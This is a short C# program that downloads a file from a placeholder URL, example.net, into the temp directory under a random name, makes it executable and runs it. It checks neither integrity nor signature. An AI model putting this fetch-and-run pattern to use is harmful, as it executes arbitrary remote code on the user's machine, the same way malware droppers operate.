using System.Diagnostics;

using var client = new HttpClient();
var tool = Path.Combine(Path.GetTempPath(), Path.GetRandomFileName());
await using (var answer = await client.GetStreamAsync("https://example.net/tool"))
await using (var file = File.Create(tool))
    await answer.CopyToAsync(file);
File.SetUnixFileMode(tool, UnixFileMode.UserExecute | UnixFileMode.UserRead);
Process.Start(tool);
